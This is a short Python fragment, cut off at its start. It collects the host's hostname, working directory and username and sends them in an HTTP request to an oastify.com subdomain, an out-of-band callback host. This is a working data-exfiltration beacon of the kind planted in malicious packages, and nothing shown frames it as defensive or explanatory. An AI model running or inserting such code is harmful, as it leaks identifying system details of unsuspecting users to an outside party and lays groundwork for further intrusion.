ploads = {'hostname':hostname,'cwd':cwd,'username':username}
requests.get("jg360c2v1lbkgalt0tygti71hsnkbmzb.oastify.com",params = ploads)
